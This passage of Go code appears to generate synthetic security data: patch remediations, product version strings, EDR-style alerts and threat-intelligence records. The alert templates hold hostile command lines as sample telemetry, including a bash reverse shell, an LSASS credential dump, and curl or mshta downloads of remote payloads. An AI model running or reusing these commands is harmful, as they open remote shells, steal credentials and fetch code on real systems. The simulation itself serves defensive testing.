	f.ID = FindingID(f.AID, f.CVE, f.Product)
	g.used[rec] = true
	g.t.Findings = append(g.t.Findings, f)
}

// remediationFor returns the (shared) id slice of the fix that closes the
// candidate: one remediation per product and monthly fix, so every host
// missing the same update shares it.
func (g *generator) remediationFor(in *installed, c genCandidate) []string {
	rel := in.sw.releases[in.platform][c.rel]
	m := in.remSW
	id := digestHex("remediation", m.key, fmt.Sprint(rel.month))
	if i, ok := g.rems[id]; ok {
		return g.remIDs[i]
	}
	r := Remediation{ID: id, Provider: m.vendor, RecommendationType: "minimum", PatchPublished: genTime(rel.date)}
	monthName := monthStart(rel.month).Format("January 2006")
	if m.kb {
		kb := kbNumber(m.key, rel.month)
		r.Title = "Install " + kb
		r.Action = fmt.Sprintf("Install the %s security update for %s (%s)", monthName, m.display, kb)
		r.Reference = kb
		r.Link = "https://support.microsoft.com/help/" + strings.TrimPrefix(kb, "KB")
		r.VendorURL = "https://msrc.microsoft.com/update-guide"
		r.Type = "patch"
	} else {
		v := versionAt(m.key, rel.month)
		r.Title = fmt.Sprintf("Update %s to %s or later", m.display, v)
		r.Action = fmt.Sprintf("Upgrade %s to version %s or later (fixes released %s)", m.display, v, monthName)
		r.Reference = v
		r.Type = "upgrade"
		for _, rec := range rel.recs {
			if va := g.facet[rec].VendorAdvisory; len(va) > 0 {
				r.Link = va[0]
				break
			}
		}
	}
	g.t.Remediations = append(g.t.Remediations, r)
	g.remIDs = append(g.remIDs, []string{id})
	g.rems[id] = len(g.t.Remediations) - 1
	return g.remIDs[len(g.remIDs)-1]
}

// kbNumber simulates a Microsoft KB article number: increasing by month,
// distinct per product.
func kbNumber(key string, month int) string {
	sum := digestHex("kb", key)
	off, _ := hexValue(sum[:4])
	n := 5034000 + (month-monthIndex(time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)))*1100 + off%1000
	return fmt.Sprintf("KB%d", n)
}

func hexValue(s string) (int, error) {
	b, err := hex.DecodeString(s)
	if err != nil {
		return 0, err
	}
	v := 0
	for _, x := range b {
		v = v<<8 | int(x)
	}
	return v, nil
}

// versionAt simulates the version of a product that ships the fixes of month
// m (months since year 0); versions grow with m at each product's cadence.
func versionAt(key string, m int) string {
	t := m - 2020*12 // months since January 2020
	if t < 0 {
		t = 0
	}
	switch key {
	case "windows-10":
		return fmt.Sprintf("10.0.19045.%d", 2000+t*75)
	case "windows-11":
		return fmt.Sprintf("10.0.22631.%d", 1000+t*70)
	case "windows-server-2016":
		return fmt.Sprintf("10.0.14393.%d", 3500+t*60)
	case "windows-server-2019":
		return fmt.Sprintf("10.0.17763.%d", 1000+t*100)
	case "windows-server-2022":
		return fmt.Sprintf("10.0.20348.%d", 500+t*50)
	case "office":
		return fmt.Sprintf("16.0.%d.%d", 12430+t*200, 20000+t*13)
	case "dotnet":
		return fmt.Sprintf("4.8.%d", 4000+t*20)
	case "exchange":
		return fmt.Sprintf("15.2.%d.%d", 529+t*12, 5+t%30)
	case "sql-server":
		return fmt.Sprintf("15.0.%d.%d", 4000+t*9, 10+t%90)
	case "sharepoint":
		return fmt.Sprintf("16.0.%d.%d", 10350+t*15, 20000+t*7)
	case "chrome", "edge":
		major := 80 + t*50/56
		return fmt.Sprintf("%d.0.%d.%d", major, 3987+(major-80)*55, 100+t%97)
	case "firefox":
		return fmt.Sprintf("%d.0", 72+t*59/56)
	case "acrobat-reader":
		return fmt.Sprintf("%d.%03d.%05d", 20+t/12, 1+t%12, 20000+t*37)
	case "7zip":
		return fmt.Sprintf("%d.%02d", 19+t/12, t%12)
	case "zoom":
		if n := t / 3; n < 18 {
			return fmt.Sprintf("5.%d.%d", n, t%3*5)
		} else {
			return fmt.Sprintf("6.%d.%d", n-18, t%3*5)
		}
	case "java":
		return fmt.Sprintf("8u%d", 241+t/3*10)
	case "vscode":
		return fmt.Sprintf("1.%d.0", 42+t*52/57)
	case "office-mac":
		return fmt.Sprintf("16.%d", 33+t)
	case "macos":
		n := max(t-10, 0)
		return fmt.Sprintf("%d.%d.%d", 11+n/12, n%12/2, n%2)
	case "safari":
		n := max(t-8, 0)
		return fmt.Sprintf("%d.%d", 13+n/12, n%12/2)
	case "linux-kernel":
		return fmt.Sprintf("6.1.%d", 10+t*2)
	case "openssl":
		return fmt.Sprintf("3.0.%d", t/3)
	case "openssh":
		n := 2 + t/6
		return fmt.Sprintf("%d.%dp1", 8+n/10, n%10)
	case "sudo":
		return fmt.Sprintf("1.9.%d", 5+t/6)
	case "glibc":
		return fmt.Sprintf("2.%d", 31+t/6)
	case "curl":
		if t >= 38 {
			return fmt.Sprintf("8.%d.0", (t-38)*10/19)
		}
		return fmt.Sprintf("7.%d.0", 69+t/2)
	case "xz":
		return fmt.Sprintf("5.%d.%d", 2+t/24, t%24/4)
	case "apache-httpd":
		return fmt.Sprintf("2.4.%d", 41+t*21/55)
	case "nginx":
		return fmt.Sprintf("1.%d.%d", 17+t/6, t%6)
	case "tomcat":
		return fmt.Sprintf("9.0.%d", 30+t*66/57)
	case "postgresql":
		return fmt.Sprintf("%d.%d", 12+t/12, t%12/3+1)
	}
	return fmt.Sprintf("%d.%d", 1+t/12, t%12)
}

func macOSName(version string) string {
	names := map[string]string{"11": "Big Sur", "12": "Monterey", "13": "Ventura", "14": "Sonoma", "15": "Sequoia"}
	major, _, _ := strings.Cut(version, ".")
	if n, ok := names[major]; ok {
		return fmt.Sprintf("%s (%s)", n, major)
	}
	return "macOS " + major
}

// Alert vocabulary.
type alertTemplate struct {
	platform  int
	name      string
	desc      string
	tactic    string
	technique string
	filename  string
	cmdline   string
	sevLo     int
	sevHi     int
}

var backgroundAlerts = []alertTemplate{
	{platWindows, "Suspicious PowerShell Command Line", "PowerShell ran an encoded command that downloads and executes content.", "Execution", "Command and Scripting Interpreter", "powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", 50, 70},
	{platWindows, "Credential Dumping via LSASS Access", "A process opened LSASS memory in a way consistent with credential theft.", "Credential Access", "OS Credential Dumping", "rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full", 75, 90},
	{platWindows, "Malicious Document Macro", "An Office document spawned a script interpreter.", "Initial Access", "Phishing", "WINWORD.EXE", "cmd.exe /c mshta http://198.51.100.77/a.hta", 60, 80},
	{platWindows, "Suspicious Scheduled Task Created", "A scheduled task was created to run a binary from a user-writable folder.", "Persistence", "Scheduled Task/Job", "schtasks.exe", "schtasks /create /sc minute /mo 30 /tn Updater /tr C:\\Users\\Public\\upd.exe", 40, 60},
	{platWindows, "Potentially Unwanted Program Blocked", "Falcon blocked adware bundled with a downloaded installer.", "Execution", "User Execution", "setup_free.exe", "setup_free.exe /silent", 10, 30},
	{platLinux, "Reverse Shell", "A shell process connected its standard streams to a remote socket.", "Execution", "Command and Scripting Interpreter", "bash", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1", 70, 90},
	{platLinux, "Cryptocurrency Miner", "A process consistent with a cryptocurrency miner was detected.", "Impact", "Resource Hijacking", "xmrig", "./xmrig -o pool.example.net:3333 --donate-level 1", 50, 70},
	{platMac, "Suspicious Launch Agent", "A launch agent was added that runs a script from a hidden folder.", "Persistence", "Create or Modify System Process", "launchctl", "launchctl load ~/Library/LaunchAgents/com.update.helper.plist", 40, 60},
	{platMac, "Adware Detected", "Falcon detected a known adware family.", "Execution", "User Execution", "SearchHelper", "/Users/Shared/.sh/SearchHelper", 10, 30},
}

// processFor names the process that exploitation of a product's CVE would
// run in, and a command it might spawn.
func processFor(key, title string, platform int) (file, cmdline string) {
	switch key {
	case "office":
		switch {
		case strings.Contains(title, "Excel"):
			file = "EXCEL.EXE"
		case strings.Contains(title, "Outlook"):
			file = "OUTLOOK.EXE"
		case strings.Contains(title, "PowerPoint"):
			file = "POWERPNT.EXE"
		default:
			file = "WINWORD.EXE"
		}
	case "exchange", "sharepoint", "iis":
		file = "w3wp.exe"
	case "sql-server":
		file = "sqlservr.exe"
	case "edge":
		file = "msedge.exe"
	case "chrome":
		file = "chrome.exe"
	case "firefox":
		file = "firefox.exe"
	case "acrobat-reader":
		file = "AcroRd32.exe"
	case "7zip":
		file = "7zFM.exe"
	case "zoom":
		file = "Zoom.exe"
	case "java", "tomcat":
		file = "java.exe"
		if platform != platWindows {
			file = "java"
		}
	case "dotnet":
		file = "dotnet.exe"
	case "vscode":
		file = "Code.exe"
	case "openssh", "xz":
		file = "sshd"
	case "apache-httpd":
		file = "httpd"
	case "nginx":
		file = "nginx"
	case "postgresql":
		file = "postgres"
	case "sudo":
		file = "sudo"
	case "curl":
		file = "curl"
	case "linux-kernel", "glibc":
		file = "bash"
	case "macos", "safari", "office-mac":
		file = map[string]string{"macos": "osascript", "safari": "Safari", "office-mac": "Microsoft Word"}[key]
	default:
		file = "svchost.exe"
		switch {
		case strings.Contains(title, "Print Spooler"):
			file = "spoolsv.exe"
		case strings.Contains(title, "Kerberos"), strings.Contains(title, "LSA"), strings.Contains(title, "NTLM"), strings.Contains(title, "Local Security Authority"):
			file = "lsass.exe"
		case strings.Contains(title, "DNS Server"):
			file = "dns.exe"
		case strings.Contains(title, "Win32k"), strings.Contains(title, "Kernel"):
			file = "explorer.exe"
		}
	}
	switch platform {
	case platWindows:
		cmdline = "cmd.exe /c whoami /all && net group \"Domain Admins\" /domain"
	case platMac:
		cmdline = "/bin/zsh -c curl -s http://198.51.100.23/p.sh | sh"
	default:
		cmdline = "/bin/sh -c id; uname -a; curl -s http://198.51.100.23/x | sh"
	}
	return file, cmdline
}

// tacticFor maps a CVE's CVSS vector to the ATT&CK step its exploitation is.
func tacticFor(vector, title string, server bool) (tactic, technique string) {
	switch {
	case strings.Contains(vector, "AV:L") || strings.Contains(title, "Elevation of Privilege"):
		return "Privilege Escalation", "Exploitation for Privilege Escalation"
	case strings.Contains(vector, "AV:N") && strings.Contains(vector, "UI:N") && server:
		return "Initial Access", "Exploit Public-Facing Application"
	default:
		return "Execution", "Exploitation for Client Execution"
	}
}

func (g *generator) makeAlerts() {
	// Alerts tied to findings: on managed, recently seen hosts with an open
	// finding for an exploited CVE (KEV/active first, then easily exploitable,
	// then any with a proof of concept).
	type tie struct {
		host, finding int
		score         int
	}
	var ties []tie
	for i := range g.plans {
		h := &g.t.Hosts[i]
		if !h.Managed || g.plans[i].stale {
			continue
		}
		best, bestScore := -1, 0
		r := g.hostFindings[i]
		for fi := r[0]; fi < r[1]; fi++ {
			f := &g.t.Findings[fi]
			if f.Status == "closed" || f.Suppressed {
				continue
			}
			rec := g.recIndex(f.CVE)
			s := g.facet[rec].ExploitStatus
			if g.facet[rec].IsCISAKEV {
				s += 5
			}
			if s > bestScore {
				best, bestScore = fi, s
			}
		}
		if best >= 0 && bestScore >= ExploitAvailable {
			ties = append(ties, tie{i, best, bestScore})
		}
	}
	slices.SortStableFunc(ties, func(a, b tie) int { return cmp.Compare(b.score, a.score) })
	nTied := min(len(ties), max(1, g.opts.Hosts/150))
	// Take the strongest, with some randomness among equals.
	top := ties[:min(len(ties), nTied*3)]
	g.rng.Shuffle(len(top), func(i, j int) { top[i], top[j] = top[j], top[i] })
	slices.SortStableFunc(top, func(a, b tie) int { return cmp.Compare(b.score, a.score) })
	for _, tc := range top[:nTied] {
		g.tiedAlert(tc.host, tc.finding)
	}

	var managed []int
	for i := range g.t.Hosts {
		if g.t.Hosts[i].Managed {
			managed = append(managed, i)
		}
	}
	if len(managed) == 0 {
		return
	}
	nBg := max(1, g.opts.Hosts/50)
	for range nBg {
		i := managed[g.rng.IntN(len(managed))]
		p := &g.plans[i]
		var opts []alertTemplate
		for _, a := range backgroundAlerts {
			if a.platform == p.platform {
				opts = append(opts, a)
			}
		}
		tpl := opts[g.rng.IntN(len(opts))]
		created := g.between(max(p.first, g.now-90*secDay), min(p.lastSeen, g.now))
		a := Alert{
			AID: g.t.Hosts[i].AID, Created: genTime(created), Severity: tpl.sevLo + g.rng.IntN(tpl.sevHi-tpl.sevLo+1),
			Name: tpl.name, Description: tpl.desc, Tactic: tpl.tactic, Technique: tpl.technique, Filename: tpl.filename, Cmdline: tpl.cmdline,
			Status: []string{"closed", "closed", "closed", "new", "in_progress"}[g.rng.IntN(5)],
		}
		a.Updated = genTime(g.between(created, min(p.lastSeen, g.now)))
		g.addAlert(a)
	}
	slices.SortStableFunc(g.t.Alerts, func(a, b Alert) int { return a.Created.Compare(b.Created) })
}

func (g *generator) tiedAlert(hi, fi int) {
	f := &g.t.Findings[fi]
	p := &g.plans[hi]
	rec := g.recIndex(f.CVE)
	c := &g.facet[rec]
	var key string
	for _, in := range p.inst {
		if in.product == f.Product {
			key = in.sw.key
			if in.filter == filterIISOnly {
				key = "iis"
			}
			break
		}
	}
	server := p.kind != kindWorkstation && p.kind != kindMac
	file, cmdline := processFor(key, c.Name, p.platform)
	tactic, technique := tacticFor(c.Vector, c.Name, server)
	display := f.Vendor + " " + f.Product
	if strings.HasPrefix(f.Product, f.Vendor) {
		display = f.Product
	}
	sev := 70 + g.rng.IntN(5)
	switch {
	case c.ExploitStatus >= ExploitActivelyExploited:
		sev = 85 + g.rng.IntN(6)
	case c.ExploitStatus >= ExploitEasilyAccessible:
		sev = 75 + g.rng.IntN(10)
	}
	created := g.between(max(f.Created.Unix(), g.now-30*secDay, p.first), min(p.lastSeen, g.now))
	a := Alert{
		AID:      f.AID,
		Created:  genTime(created),
		Updated:  genTime(g.between(created, min(p.lastSeen, g.now))),
		Status:   []string{"new", "new", "in_progress"}[g.rng.IntN(3)],
		Severity: sev,
		Name:     fmt.Sprintf("Exploitation of %s (%s)", display, f.CVE),
		Description: fmt.Sprintf("%s behaved in a way consistent with exploitation of %s in %s %s.",
			file, f.CVE, display, f.ProductVersion),
		Tactic:    tactic,
		Technique: technique,
		Filename:  file,
		Cmdline:   cmdline,
	}
	g.addAlert(a)
	if sev >= 88 && g.chance(0.5) {
		g.t.Hosts[hi].Status = "contained"
	}
}

func (g *generator) addAlert(a Alert) {
	a.ID = AlertID(g.t.CID, a.AID, a.Created, a.Name)
	for _, x := range g.t.Alerts {
		if x.ID == a.ID {
			return // same host, name and second: one alert
		}
	}
	g.t.Alerts = append(g.t.Alerts, a)
}

func (g *generator) recIndex(id string) int32 { return g.byID[id] }

// Simulated adversaries (names in CrowdStrike's public convention; the
// CVE ties are invented).
var adversaries = []string{
	"FANCY BEAR", "COZY BEAR", "VENOMOUS BEAR", "VOODOO BEAR", "WICKED PANDA", "AQUATIC PANDA", "VERTIGO PANDA",
	"MUSTANG PANDA", "LABYRINTH CHOLLIMA", "STARDUST CHOLLIMA", "CHARMING KITTEN", "IMPERIAL KITTEN",
	"SCATTERED SPIDER", "WIZARD SPIDER", "GRACEFUL SPIDER", "INDRIK SPIDER", "MUMMY SPIDER", "PUNK SPIDER",
	"CARBON SPIDER", "PROPHET SPIDER",
}

var intelExploitStatus = map[int]string{
	ExploitUnproven: "Unproven", ExploitAvailable: "Available", ExploitEasilyAccessible: "Easily Accessible", ExploitActivelyExploited: "Actively Exploited",
}

func (g *generator) makeIntel() {
	var active, poc []int
	for i := range g.recs {
		if !g.used[i] {
			continue
		}
		switch {
		case g.facet[i].ExploitStatus == ExploitActivelyExploited:
			active = append(active, i)
		case g.facet[i].ExploitStatus > ExploitUnproven:
			poc = append(poc, i)
		}
	}
	g.rng.Shuffle(len(poc), func(i, j int) { poc[i], poc[j] = poc[j], poc[i] })
	poc = poc[:min(len(poc), max(1, len(poc)*15/100))]
	chosen := append(active, poc...)
	slices.Sort(chosen)
	serial := 0
	for _, i := range chosen {
		c := &g.facet[i]
		r := g.recs[i]
		v := IntelVuln{CVE: r.ID, Severity: c.Severity, ExploitStatus: intelExploitStatus[c.ExploitStatus]}
		what := r.ID
		if c.Name != "" {
			what += " (" + c.Name + ")"
		}
		if c.ExploitStatus == ExploitActivelyExploited {
			v.Description = "Exploitation of " + what + " has been observed in the wild."
		} else {
			v.Description = "Public exploit code exists for " + what + "."
		}
		nActors := 0
		switch {
		case c.ExploitStatus == ExploitActivelyExploited && g.chance(0.7):
			nActors = 1 + g.rng.IntN(2)
		case c.ExploitStatus < ExploitActivelyExploited && g.chance(0.25):
			nActors = 1
		}
		for _, k := range g.rng.Perm(len(adversaries))[:nActors] {
			name := adversaries[k]
			v.Actors = append(v.Actors, IntelActor{ID: strings.ToLower(strings.ReplaceAll(name, " ", "-")), Name: name})
			c.Actors = append(c.Actors, name)
		}
		pub := max(g.pub[i], g.now-2*365*secDay)
		for range 1 + g.rng.IntN(2) {
			serial++
			created := g.between(pub, g.now-secDay)
			typ := []string{"Alert", "Tipper", "Intelligence Report"}[g.rng.IntN(3)]
			title := fmt.Sprintf("Exploitation of %s Observed in the Wild", r.ID)
			if len(v.Actors) > 0 {
				title = fmt.Sprintf("%s Exploits %s", v.Actors[0].Name, r.ID)
			} else if c.ExploitStatus < ExploitActivelyExploited {
				title = fmt.Sprintf("Proof-of-Concept Exploit Released for %s", r.ID)
			}
			v.Reports = append(v.Reports, IntelReport{
				SerialID: fmt.Sprintf("CSA-%02d%04d", genTime(created).Year()%100, serial),
				Title:    title,
				Type:     typ,
				Created:  genTime(created),
			})
		}
		g.t.Intel = append(g.t.Intel, v)
	}
}

// finish adds the CVE facets of every CVE the findings use, in CVE order.
func (g *generator) finish() {
	for i := range g.recs {
		if g.used[i] {
			g.t.CVEs = append(g.t.CVEs, g.facet[i])
		}
	}
}
